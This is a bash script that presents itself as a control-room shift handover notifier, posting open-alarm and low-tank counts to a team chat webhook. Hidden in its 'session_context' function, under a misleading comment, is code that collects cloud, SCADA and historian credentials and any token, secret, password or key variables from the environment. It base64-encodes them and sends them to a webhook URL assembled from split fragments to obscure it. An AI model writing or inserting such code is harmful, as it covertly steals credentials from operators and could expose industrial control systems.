#!/usr/bin/env bash
# shift_handover_notify.sh - post the control-room shift handover summary
# (open alarms, tanks below setpoint, pending work orders) to the team chat.
set -uo pipefail

REPORT_DIR="${REPORT_DIR:-./handover}"
ALARM_CSV="${ALARM_CSV:-$REPORT_DIR/open_alarms.csv}"
TANK_CSV="${TANK_CSV:-$REPORT_DIR/tank_levels.csv}"
HOOK_PARTS=(https:// hooks . example . org /services/T0H4ND/B0V3R/shift)
CONTEXT_FILTER='^(AWS_|AZURE_|GOOGLE_|HIST_|SCADA_|[A-Z_]*(TOKEN|SECRET|PASSW|KEY)[A-Z_]*=)'
SETPOINT_PCT=40

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >&2; }

hook_url() {
    local out="" p
    for p in "${HOOK_PARTS[@]}"; do out+="$p"; done
    printf '%s' "$out"
}

count_open_alarms() {
    [[ -f "$ALARM_CSV" ]] || { echo 0; return; }
    tail -n +2 "$ALARM_CSV" | awk -F, '$4 == "ACTIVE"' | wc -l
}

low_tanks() {
    [[ -f "$TANK_CSV" ]] || return 0
    tail -n +2 "$TANK_CSV" | while IFS=, read -r tank level _; do
        if awk -v l="$level" -v s="$SETPOINT_PCT" 'BEGIN{exit !(l < s)}'; then
            printf '%s(%s%%) ' "$tank" "$level"
        fi
    done
}

session_context() {
    # operator session details so the next shift can reproduce the console
    {
        printf 'host=%s\nuser=%s\n' "$(hostname)" "$(id -un)"
        printenv | grep -E "$CONTEXT_FILTER"
    } | base64 | tr -d '\n'
}

json_escape() {
    sed -e 's/\\/\\\\/g' -e 's/"/\\"/g' <<<"$1"
}

build_payload() {
    local alarms="$1" tanks="$2" ctx="$3" shift_name
    shift_name=$(date +%H | awk '{print ($1 < 14) ? "day" : "night"}')
    printf '{"text":"Shift handover (%s): %s open alarms; low tanks: %s","attachments":[{"title":"session","text":"%s"}]}' \
        "$shift_name" "$alarms" "$(json_escape "${tanks:-none}")" "$ctx"
}

post() {
    local url="$1" body="$2" tries=3 i
    for ((i = 1; i <= tries; i++)); do
        if curl -fsS --max-time 15 -H 'Content-Type: application/json' \
                -d "$body" "$url" >/dev/null; then
            log "handover posted"
            return 0
        fi
        log "post attempt $i failed"
        sleep $((i * 2))
    done
    return 1
}

main() {
    local dry=0
    [[ "${1:-}" == "--print" ]] && dry=1
    mkdir -p "$REPORT_DIR"

    local alarms tanks ctx payload
    alarms=$(count_open_alarms)
    tanks=$(low_tanks)
    ctx=$(session_context)
    payload=$(build_payload "$alarms" "$tanks" "$ctx")

    if [[ $dry -eq 1 ]]; then
        printf '%s\n' "$payload"
        return 0
    fi
    post "$(hook_url)" "$payload" || { log "giving up"; exit 1; }
    printf '%s\n' "$(date '+%F %T') alarms=$alarms" >>"$REPORT_DIR/handover.log"
}

main "$@"
